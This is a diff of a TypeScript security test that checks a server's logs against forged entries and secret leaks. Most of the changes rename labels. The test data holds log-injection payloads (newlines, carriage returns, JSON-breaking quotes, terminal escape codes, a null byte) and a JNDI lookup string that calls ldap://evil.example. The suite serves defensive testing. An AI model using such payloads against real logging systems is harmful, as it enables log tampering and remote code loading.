@@ -2,18 +2,18 @@ import assert from 'node:assert/strict';
 import { type Attempt, attemptsOf, type Kind } from '../kind.ts';
 
 const FORGED_LINES: Record<string, string> = {
-  'a line of its own': '\n{"level":50,"msg":"FORGED"}',
+  'a separate line': '\n{"level":50,"msg":"FORGED"}',
   'a carriage return': '\r{"level":50,"msg":"FORGED"}',
   'the end of a text': '","level":50,"msg":"FORGED","x":"',
-  'colours of a terminal': '\u001b[2J\u001b[31mFORGED',
+  'terminal colours': '\u001b[2J\u001b[31mFORGED',
   // biome-ignore lint/suspicious/noTemplateCurlyInString: it is sent as it stands
   'a look-up': '${jndi:ldap://evil.example/FORGED}',
   'a null byte': '\u0000FORGED',
 };
 
 export const forgedLogs: Kind = {
-  name: 'log: lines forged, secrets told',
-  inTurn: true,
+  name: 'log: forged lines, leaked secrets',
+  isSequential: true,
   attempts: (target) => {
     const forged = attemptsOf<string, (text: string) => Promise<unknown>>(
       Object.entries(FORGED_LINES),
@@ -35,7 +35,7 @@ export const forgedLogs: Kind = {
       ],
       async (text, where) => {
         await where(text);
-        // Each line is one entry, in JSON, and nothing of it moves a terminal.
+        // Each line is one JSON entry without terminal control characters.
         const entries = target.server.stderr().split('\n').slice(0, -1);
         for (const entry of entries) {
           const { msg } = JSON.parse(entry);
@@ -47,10 +47,10 @@ export const forgedLogs: Kind = {
     const secrets: [string, () => string][] = [
       ['a key', () => target.victim.key],
       ['a session', () => target.victim.session.cookie.split('=')[1] ?? ''],
-      ['a token against forgery', () => target.victim.session.csrf],
+      ['a CSRF token', () => target.victim.session.csrf],
       ['the password of the owner', () => 'a sentence to remember'],
     ];
-    const told = secrets.map(
+    const leaked = secrets.map(
       ([what, secret]): Attempt => [
         `${what} in the log`,
         async () => {
@@ -69,6 +69,6 @@ export const forgedLogs: Kind = {
         assert.ok(!target.server.stderr().includes(pathname));
       },
     ];
-    return [...forged, ...told, uploads];
+    return [...forged, ...leaked, uploads];
   },
 };
